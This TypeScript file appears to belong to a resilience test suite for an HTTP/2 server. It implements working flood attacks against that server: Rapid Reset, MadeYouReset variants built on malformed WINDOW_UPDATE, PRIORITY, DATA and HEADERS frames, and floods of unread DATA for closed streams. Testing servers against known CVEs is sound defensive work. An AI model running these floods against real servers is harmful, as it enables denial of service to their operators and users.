import { setTimeout as sleep } from 'node:timers/promises';
import { block, callFields, flags, frame, reset, uint32, windowUpdate } from '../support/http2-frames.ts';
import { waitUntil } from '../support/wait-until.ts';
import { type Attack, onConnection } from './attack.ts';
import { soonStalled, untilStuck } from './flow-attacks.ts';
import type { HostileConnection } from './hostile-connection.ts';
import { begin, call, data, methods, smallRequest, streamId } from './hostile-frames.ts';

/** More than any limit allows. */
const many = 50_000;

/** CVE-2023-44487: calls that are cancelled at once. */
export const rapidReset = onConnection(
  { name: 'Rapid reset', unit: 'HEADERS with RST_STREAM' },
  async (client) => {
    const sent = await client.flood(many, (index) =>
      Buffer.concat([begin(streamId(index)), reset(streamId(index))]),
    );
    await client.ended();
    return sent;
  },
);

/** The same with requests that are whole, so that there is work to throw away. */
export const rapidResetOfWork = onConnection(
  { name: 'Rapid reset of whole calls', unit: 'calls with RST_STREAM' },
  async (client) => {
    const sent = await client.flood(many, (index) =>
      Buffer.concat([call(streamId(index)), reset(streamId(index))]),
    );
    await client.ended();
    return sent;
  },
);

const fiveOctets = Buffer.concat([uint32(0), Buffer.of(15)]);

/** What makes a server reset a stream by itself. */
const faultsOfClients: Readonly<Record<string, (id: number) => Buffer>> = {
  'WINDOW_UPDATE of 0': (id) => Buffer.concat([begin(id), windowUpdate(id, 0)]),
  'too large a window': (id) =>
    Buffer.concat([begin(id), windowUpdate(id, 0x7fff_ffff), windowUpdate(id, 1)]),
  'PRIORITY of 4 octets': (id) =>
    Buffer.concat([begin(id), frame('PRIORITY', 0, id, fiveOctets.subarray(1))]),
  'PRIORITY on itself': (id) =>
    Buffer.concat([begin(id), frame('PRIORITY', 0, id, Buffer.concat([uint32(id), Buffer.of(15)]))]),
  'DATA after the end': (id) => Buffer.concat([call(id), data(id, smallRequest)]),
  'HEADERS after the end': (id) =>
    Buffer.concat([
      call(id),
      frame('HEADERS', flags.END_HEADERS | flags.END_STREAM, id, block([['late', '1']])),
    ]),
  'DATA beyond content-length': (id) =>
    Buffer.concat([begin(id, methods.decide, [['content-length', '3']]), data(id, smallRequest)]),
  'no request at all': (id) =>
    frame('HEADERS', flags.END_HEADERS, id, block(callFields(methods.decide).slice(1))),
};

/** CVE-2025-8671, and CVE-2019-9514: calls for which the server is made to send RST_STREAM. */
export const madeYouReset: readonly Attack[] = Object.entries(faultsOfClients).map(([fault, make]) =>
  // Answers are held back, so that the calls are open when the fault comes.
  onConnection({ name: `MadeYouReset: ${fault}`, unit: 'calls', settings: [[4, 0]] }, async (client) => {
    const sent = await client.flood(many, (index) => make(streamId(index)));
    await client.ended();
    return sent;
  }),
);

/** DATA for calls that have ended earns RST_STREAM, which costs what it weighs. */
const dataForNothing = async (client: HostileConnection, times: number): Promise<number> => {
  await client.send(call(streamId(times)));
  return client.flood(times, (index) => data(streamId(index)));
};

export const dataAfterAll = onConnection(
  { name: 'DATA for calls that never were', unit: 'DATA' },
  async (client) => {
    const sent = await dataForNothing(client, many);
    await waitUntil('the resets', () => client.count('RST_STREAM') >= sent);
    return sent;
  },
);

/**
 * RUSTSEC-2024-0003: the same, and nobody reads what it earns. 30 MB: what the service reads and what both systems' buffers take
 * is some 14 MB, and an attack that ends there has found no end.
 */
export const dataAfterAllUnread = onConnection(
  { name: 'DATA for calls that never were, unread', unit: 'DATA', env: soonStalled, reads: false },
  (client) => dataForNothing(client, 60 * many),
);

/** Answers of a few octets, each written by itself, for a client that takes none of them. */
export const trickleUnread = onConnection(
  { name: 'DATA one by one, answers unread', unit: 'DATA', reads: false },
  async (client, look) => {
    const filling = 330_000;
    await dataForNothing(client, filling);
    await untilStuck(client);
    const packets = 2_500;
    for (let index = 0; index < packets; index += 1) {
      await client.send(data(streamId(index)));
      await sleep(1);
    }
    await look();
    return packets;
  },
);
